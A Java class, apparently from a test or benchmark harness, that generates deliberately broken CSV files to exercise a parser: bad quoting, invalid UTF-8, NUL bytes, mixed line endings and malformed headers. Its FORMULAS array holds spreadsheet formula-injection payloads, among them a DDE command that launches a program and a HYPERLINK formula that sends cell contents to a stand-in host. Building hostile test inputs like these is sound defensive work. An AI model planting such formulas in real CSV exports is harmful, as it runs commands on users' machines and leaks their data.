package io.recant.jobs.bench;

import io.recant.jobs.bench.HostileKind.Known;
import io.recant.jobs.bench.HostileKind.Maker;
import io.recant.jobs.bench.HostileKind.Reading;
import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import java.util.SplittableRandom;

/** Bad CSV. */
final class HostileCsv {

  private static final String HEADER = "input,target\r\n";
  private static final int SHORT_ROW = 1 << 14;

  /** What a spreadsheet would run. */
  static final String[] FORMULAS = {
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"\"http://x/?\"\"&A1)", "@SUM(1+9)", "+1+1", "-2+3", "\t=1+1"
  };

  private static final String[] WRONG = {
    "one", "one,two,three", "\"a\"b,c", ",b", "a,", ",", "\"\",b", "a,\" \"", " ,b"
  };

  private static final String[] HEADERS = {"a,a\n", "\"a\n", "\"a\"b\n", "input,\u0000,input\n"};

  private HostileCsv() {}

  static List<HostileKind> kinds() {
    return List.of(
        kind(
            "formulas in CSV", 50, Reading.ROW_BY_ROW, HostileKind.USUAL_ROW, HostileCsv::formulas),
        kind("wrong CSV", 70, Reading.ROW_BY_ROW, HostileKind.USUAL_ROW, HostileCsv::wrong),
        kind("text in CSV", 60, Reading.ROW_BY_ROW, HostileKind.USUAL_ROW, HostileCsv::text),
        kind("open quotes", 2, Reading.ROW_BY_ROW, SHORT_ROW, HostileCsv::openQuotes),
        kind("wrong headers", 2, Reading.REFUSED, HostileKind.USUAL_ROW, HostileCsv::header));
  }

  private static HostileKind kind(
      String name, int share, Reading reading, int maxRowBytes, Maker maker) {
    return new HostileKind(name, share, reading, HostileKind.CSV, maxRowBytes, maker);
  }

  private static Known formulas(Path folder, SplittableRandom random) throws IOException {
    HostileText text = new HostileText(random).raw(HEADER);
    for (int i = random.nextInt(1, 6); i > 0; i--) {
      text.sample(
          "\"" + FORMULAS[random.nextInt(FORMULAS.length)] + "\"," + HostileText.word(random));
    }
    return text.write(folder.resolve("formulas.csv"));
  }

  private static Known wrong(Path folder, SplittableRandom random) throws IOException {
    HostileText text = new HostileText(random).raw(HEADER);
    for (int i = random.nextInt(1, 6); i > 0; i--) {
      good(text, random);
      text.bad(WRONG[random.nextInt(WRONG.length)]);
    }
    return text.write(folder.resolve("wrong.csv"));
  }

  /** Broken UTF-8, NUL, every line end, and a quote that nobody closes. */
  private static Known text(Path folder, SplittableRandom random) throws IOException {
    HostileText text =
        new HostileText(random).raw(random.nextBoolean() ? "\uFEFF" : "").raw(HEADER);
    for (int i = random.nextInt(1, 6); i > 0; i--) {
      switch (random.nextInt(4)) {
        case 0 -> text.bad(new byte[] {'a', (byte) 0xE4, ',', 'b'});
        case 1 -> text.sample("a\0b," + HostileText.word(random) + "\r");
        case 2 -> text.sample("\"one\r\ntwo\n\nthree\rfour\"," + HostileText.word(random));
        default -> text.bad("a\r,b\r,c");
      }
      good(text, random);
    }
    return text.bad("\"open,b").write(folder.resolve("text.csv"));
  }

  /** Each line opens a quote and closes the one before: no two of them are a record. */
  private static Known openQuotes(Path folder, SplittableRandom random) throws IOException {
    HostileText text = new HostileText(random).raw(HEADER);
    for (int i = random.nextInt(SHORT_ROW, 2 * SHORT_ROW); i > 0; i--) {
      text.bad("x\",\"z");
    }
    return text.write(folder.resolve("open.csv"));
  }

  private static Known header(Path folder, SplittableRandom random) throws IOException {
    HostileText text = new HostileText(random);
    if (random.nextInt(HEADERS.length + 1) == 0) {
      text.raw(new byte[] {'a', ',', (byte) 0xFF, '\n'});
    } else {
      text.raw(HEADERS[random.nextInt(HEADERS.length)]);
    }
    good(text, random);
    return text.write(folder.resolve("header.csv"));
  }

  private static void good(HostileText text, SplittableRandom random) {
    text.sample(HostileText.word(random) + "," + HostileText.word(random));
  }
}
